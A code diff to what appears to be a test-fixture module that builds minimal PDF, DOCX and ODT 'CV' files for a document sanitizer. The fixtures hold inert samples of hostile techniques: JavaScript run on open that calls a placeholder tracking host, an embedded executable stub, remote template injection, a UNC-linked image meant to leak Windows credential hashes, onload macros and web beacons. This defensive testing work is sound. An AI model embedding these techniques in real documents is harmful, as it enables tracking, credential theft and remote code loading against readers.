@@ -10,33 +10,109 @@ from __future__ import annotations
 import io
 import struct
 import zipfile
+import zlib
 
 DOCX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 DOCM_CONTENT_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
 ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
 
 
-def pdf_bytes(text: str = "Curriculum vitae") -> bytes:
-    """A minimal, valid one-page PDF 1.4 showing `text` (ASCII), with exact xref offsets."""
+def _pdf_objects(text: str, catalog_extra: bytes, page_extra: bytes) -> list[bytes]:
+    """Catalog, page tree, one page showing `text` (ASCII), its content and font: objects 1 to 5."""
     stream = f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode("ascii")
-    objects = [
-        b"<< /Type /Catalog /Pages 2 0 R >>",
+    return [
+        b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog_extra,
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
-        b" /Resources << /Font << /F1 5 0 R >> >> >>",
+        b" /Resources << /Font << /F1 5 0 R >> >>%s >>" % page_extra,
         b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
     ]
-    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
+
+
+def _write_objects(out: bytearray, objects: list[bytes], first: int = 1) -> list[int]:
+    """Append numbered objects to `out`; their offsets, for the cross-reference."""
     offsets = []
-    for number, body in enumerate(objects, start=1):
+    for number, body in enumerate(objects, start=first):
         offsets.append(len(out))
         out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    return offsets
+
+
+def pdf_bytes(text: str = "Curriculum vitae", *, catalog_extra: bytes = b"", page_extra: bytes = b"",
+              extra_objects: tuple[bytes, ...] = (), info: bytes | None = None) -> bytes:
+    """A minimal, valid one-page PDF 1.4 showing `text` (ASCII), with exact xref offsets.
+
+    `catalog_extra` and `page_extra` add entries to the catalog and the page;
+    `extra_objects` are numbered from 6 (from 7 with an `info` dictionary, which is object 6).
+    """
+    objects = [*_pdf_objects(text, catalog_extra, page_extra), *((info,) if info else ()), *extra_objects]
+    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
+    offsets = _write_objects(out, objects)
     xref = len(out)
     out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
     out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    trailer_info = b" /Info 6 0 R" if info else b""
+    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_info, xref)
     return bytes(out)
+
+
+def pdf_with_object_stream(packed: tuple[bytes, ...], catalog_extra: bytes = b"") -> bytes:
+    """A PDF 1.5 as Word and LibreOffice write them: objects from 6 on packed in a Flate object
+    stream, found through a cross-reference stream."""
+    header = b" ".join(b"%d %d" % (6 + index, sum(len(body) + 1 for body in packed[:index]))
+                       for index in range(len(packed))) + b" "
+    content = header + b"".join(body + b" " for body in packed)
+    compressed = zlib.compress(content)
+    objects = _pdf_objects("Curriculum vitae", catalog_extra, b"")
+    stream_number = 6 + len(packed)
+    object_stream = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
+        len(packed), len(header), len(compressed), compressed)
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    offsets = _write_objects(out, objects)
+    offsets += _write_objects(out, [object_stream], first=stream_number)
+    xref_number, xref = stream_number + 1, len(out)
+    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
+    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets[:5]]
+    rows += [struct.pack(">BIH", 2, stream_number, index) for index in range(len(packed))]
+    rows += [struct.pack(">BIH", 1, offsets[5], 0), struct.pack(">BIH", 1, xref, 0)]
+    table = b"".join(rows)
+    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
+        xref_number, xref_number + 1, len(table), table)
+    out += b"startxref\n%d\n%%%%EOF\n" % xref
+    return bytes(out)
+
+
+JAVASCRIPT_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.launchURL\\(\"https://track.example.net/\"\\);) >>"
+
+
+def pdf_javascript_on_open() -> bytes:
+    """A PDF running JavaScript as soon as it is opened (/OpenAction to a JavaScript action)."""
+    return pdf_bytes(catalog_extra=b" /OpenAction 6 0 R", extra_objects=(JAVASCRIPT_ACTION,))
+
+
+def pdf_with_links() -> bytes:
+    """A PDF opening at its first page, with a web link, and "/JavaScript" in its title and keywords."""
+    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (https://example.org/) >> >>"
+    info = b"<< /Title (CV - C/C++/JavaScript developer) /Keywords (Python /JavaScript /Go) >>"
+    return pdf_bytes(catalog_extra=b" /OpenAction [3 0 R /Fit]", page_extra=b" /Annots [7 0 R]",
+                     info=info, extra_objects=(link,))
+
+
+def pdf_with_embedded_file() -> bytes:
+    """A PDF carrying a file (here a small executable) in its embedded files."""
+    payload = b"MZ\x90\x00"
+    return pdf_bytes(catalog_extra=b" /Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>", extra_objects=(
+        b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
+        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(payload), payload),
+    ))
+
+
+def pdf_javascript_in_object_stream() -> bytes:
+    """Document-level JavaScript (run on opening) packed in a compressed object stream, as a
+    modern PDF would hide it: no name of it is readable in the file's bytes."""
+    return pdf_with_object_stream((b"<< /JavaScript << /Names [(init) 7 0 R] >> >>", JAVASCRIPT_ACTION),
+                                  catalog_extra=b" /Names 6 0 R")
 
 
 def padded_pdf(size: int) -> bytes:
@@ -73,20 +149,27 @@ _RELS = (
 )
 
 
-def _document_xml(text: str) -> bytes:
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+_EXTERNAL = ' TargetMode="External"'
+
+
+def _document_xml(text: str, body: str = "") -> bytes:
+    """The main part: a paragraph of `text`, then `body` (which may use the r: prefix for relationships)."""
+    relationships_prefix = f' xmlns:r="{_REL[:-1]}"' if body else ""
     return (
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
-        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
+        f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"{relationships_prefix}>'
+        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>{body}</w:body></w:document>"
     ).encode()
 
 
-def docx_entries(text: str = "Curriculum vitae", main_type: str = DOCX_CONTENT_TYPE) -> list[tuple[str, bytes]]:
+def docx_entries(text: str = "Curriculum vitae", main_type: str = DOCX_CONTENT_TYPE,
+                 content_types: str = "", body: str = "") -> list[tuple[str, bytes]]:
     """The parts of a minimal Word document, for variants that add or change parts."""
     return [
-        ("[Content_Types].xml", _content_types(main_type)),
+        ("[Content_Types].xml", _content_types(main_type, content_types)),
         ("_rels/.rels", _RELS),
-        ("word/document.xml", _document_xml(text)),
+        ("word/document.xml", _document_xml(text, body)),
     ]
 
 
@@ -107,8 +190,102 @@ def docx_with_hidden_vba() -> bytes:
     return _zip([*docx_entries(), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 64)])
 
 
-def odt_entries(text: str = "Curriculum vitae", manifest_extra: str = "") -> list[tuple[str, bytes]]:
-    """The parts of a minimal ODF text document, `mimetype` first as the spec requires."""
+def relationships(*items: tuple[str, str, bool]) -> bytes:
+    """A relationships part from (type name, target, external) triples."""
+    rows = "".join(
+        f'<Relationship Id="rId{number}" Type="{_REL}{kind}" Target="{target}"{_EXTERNAL if external else ""}/>'
+        for number, (kind, target, external) in enumerate(items, start=1)
+    )
+    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}'
+            "</Relationships>").encode()
+
+
+def docx_with(*parts: tuple[str, bytes], content_types: str = "", body: str = "") -> bytes:
+    """A minimal Word document with more parts (relationships, settings, embeddings) and content."""
+    return _zip([*docx_entries(content_types=content_types, body=body), *parts])
+
+
+_SETTINGS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    b'<w:attachedTemplate r:id="rId1"/></w:settings>'
+)
+
+
+def docx_remote_template(target: str = "https://templates.example.net/cv.dotm") -> bytes:
+    """A DOCX whose settings attach a template fetched when Word opens it (macros after the fact)."""
+    return docx_with(
+        ("word/_rels/document.xml.rels", relationships(("settings", "settings.xml", False))),
+        ("word/settings.xml", _SETTINGS),
+        ("word/_rels/settings.xml.rels", relationships(("attachedTemplate", target, True))),
+    )
+
+
+def docx_template_disguised_as_hyperlink() -> bytes:
+    """A remote template whose relationship claims to be a hyperlink (in case Word does not check the type)."""
+    return docx_with(
+        ("word/_rels/document.xml.rels", relationships(("settings", "settings.xml", False))),
+        ("word/settings.xml", _SETTINGS),
+        ("word/_rels/settings.xml.rels", relationships(("hyperlink", "https://templates.example.net/cv.dotm", True))),
+    )
+
+
+def docx_linked_image(target: str = "file:///\\\\files.example.net\\share\\photo.png") -> bytes:
+    """A DOCX showing an image linked, not embedded: Word fetches it on opening (a UNC path leaks
+    the reader's Windows credentials hash)."""
+    return docx_with(("word/_rels/document.xml.rels", relationships(("image", target, True))))
+
+
+def docx_with_hyperlinks() -> bytes:
+    """A DOCX with web and mail hyperlinks, as Word makes of every typed address, and an embedded image."""
+    links = ('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>amina@example.org</w:t></w:r></w:hyperlink>'
+             '<w:hyperlink r:id="rId2"><w:r><w:t>LinkedIn</w:t></w:r></w:hyperlink></w:p>'
+             '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
+             ' r:embed="rId3"/></w:drawing></w:r></w:p>')
+    return docx_with(
+        ("word/_rels/document.xml.rels", relationships(
+            ("hyperlink", "mailto:amina@example.org", True),
+            ("hyperlink", "https://www.linkedin.com/in/amina", True),
+            ("image", "media/image1.png", False),
+        )),
+        ("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64),
+        content_types='<Default Extension="png" ContentType="image/png"/>', body=links,
+    )
+
+
+def docx_with_ole_object() -> bytes:
+    """A DOCX embedding an OLE object (a program's document that runs its program)."""
+    return docx_with(
+        ("word/_rels/document.xml.rels", relationships(("oleObject", "embeddings/oleObject1.bin", False))),
+        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
+        content_types='<Default Extension="bin" '
+                      'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
+    )
+
+
+def docx_with_activex() -> bytes:
+    """A DOCX carrying an ActiveX control."""
+    return docx_with(
+        ("word/_rels/document.xml.rels", relationships(("control", "activeX/activeX1.xml", False))),
+        ("word/activeX/activeX1.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'),
+    )
+
+
+_ODF_NAMESPACES = " ".join(
+    f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}"'
+    for prefix, name in (("office", "office:1.0"), ("text", "text:1.0"), ("draw", "drawing:1.0"),
+                         ("script", "script:1.0"))
+) + ' xmlns:xlink="http://www.w3.org/1999/xlink"'
+
+
+def odt_entries(text: str = "Curriculum vitae", manifest_extra: str = "", body: str = "",
+                scripts: str = "") -> list[tuple[str, bytes]]:
+    """The parts of a minimal ODF text document, `mimetype` first as the spec requires.
+
+    `body` is XML added after the paragraph; `scripts` is the content of office:scripts.
+    """
     manifest = (
         '<?xml version="1.0" encoding="UTF-8"?>\n'
         '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
@@ -119,9 +296,9 @@ def odt_entries(text: str = "Curriculum vitae", manifest_extra: str = "") -> lis
     ).encode()
     content = (
         '<?xml version="1.0" encoding="UTF-8"?>\n'
-        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
-        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
-        f"<office:body><office:text><text:p>{text}</text:p></office:text></office:body>"
+        f'<office:document-content {_ODF_NAMESPACES} office:version="1.2">'
+        f"<office:scripts>{scripts}</office:scripts>"
+        f"<office:body><office:text><text:p>{text}</text:p>{body}</office:text></office:body>"
         "</office:document-content>"
     ).encode()
     return [
@@ -129,6 +306,41 @@ def odt_entries(text: str = "Curriculum vitae", manifest_extra: str = "") -> lis
         ("META-INF/manifest.xml", manifest),
         ("content.xml", content),
     ]
+
+
+def odt_with(body: str = "", scripts: str = "", parts: tuple[tuple[str, bytes], ...] = ()) -> bytes:
+    """A minimal ODT with more content and parts."""
+    return _zip([*odt_entries(body=body, scripts=scripts), *parts], stored_first=True)
+
+
+def odt_image(href: str) -> str:
+    """An image frame as LibreOffice writes it, its picture at `href`."""
+    return (f'<text:p><draw:frame draw:name="Photo"><draw:image xlink:href="{href}" xlink:type="simple"'
+            ' xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>')
+
+
+def odt_web_image(href: str = "https://pixel.example.net/open.png") -> bytes:
+    """An ODT whose image is loaded from the web when it is opened (tells the sender it was read)."""
+    return odt_with(odt_image(href))
+
+
+def odt_onload_macro() -> bytes:
+    """An ODT running a macro when opened: an event listener, no Basic library in the package."""
+    listener = ('<office:event-listeners><script:event-listener script:language="ooo:script"'
+                ' script:event-name="dom:load" xlink:href="vnd.sun.star.script:Tools.Misc.Run?'
+                'language=Basic&amp;location=application"/></office:event-listeners>')
+    return odt_with(scripts=listener)
+
+
+def odt_with_links_and_picture() -> bytes:
+    """An ODT with an embedded picture, web and mail hyperlinks and a bookmark link: all stay. Like
+    LibreOffice's, it holds an empty Configurations2/accelerator/current.xml (no XML at all)."""
+    links = ('<text:p><text:a xlink:type="simple" xlink:href="https://www.linkedin.com/in/amina">profile</text:a>'
+             ' <text:a xlink:href="mailto:amina@example.org">mail</text:a>'
+             ' <text:a xlink:href="#Experience">experience</text:a></text:p>')
+    return odt_with(odt_image("Pictures/photo.png") + links,
+                    parts=(("Pictures/photo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64),
+                           ("Configurations2/accelerator/current.xml", b"")))
 
 
 def odt_bytes(text: str = "Curriculum vitae") -> bytes:
@@ -140,6 +352,17 @@ def odt_with_macros() -> bytes:
     """An ODT carrying a LibreOffice Basic module (macro)."""
     extra = '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>'
     entries = [*odt_entries(manifest_extra=extra), ("Basic/Standard/Module1.xml", b"<script:module/>")]
+    return _zip(entries, stored_first=True)
+
+
+def encrypted_odt() -> bytes:
+    """A password-protected ODT: LibreOffice encrypts content.xml itself and says so in the manifest."""
+    extra = ('<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
+             '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
+             '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
+             "</manifest:encryption-data></manifest:file-entry>")
+    entries = odt_entries(manifest_extra=extra)
+    entries[2] = ("content.xml", bytes(range(256)) * 4)
     return _zip(entries, stored_first=True)
 
 
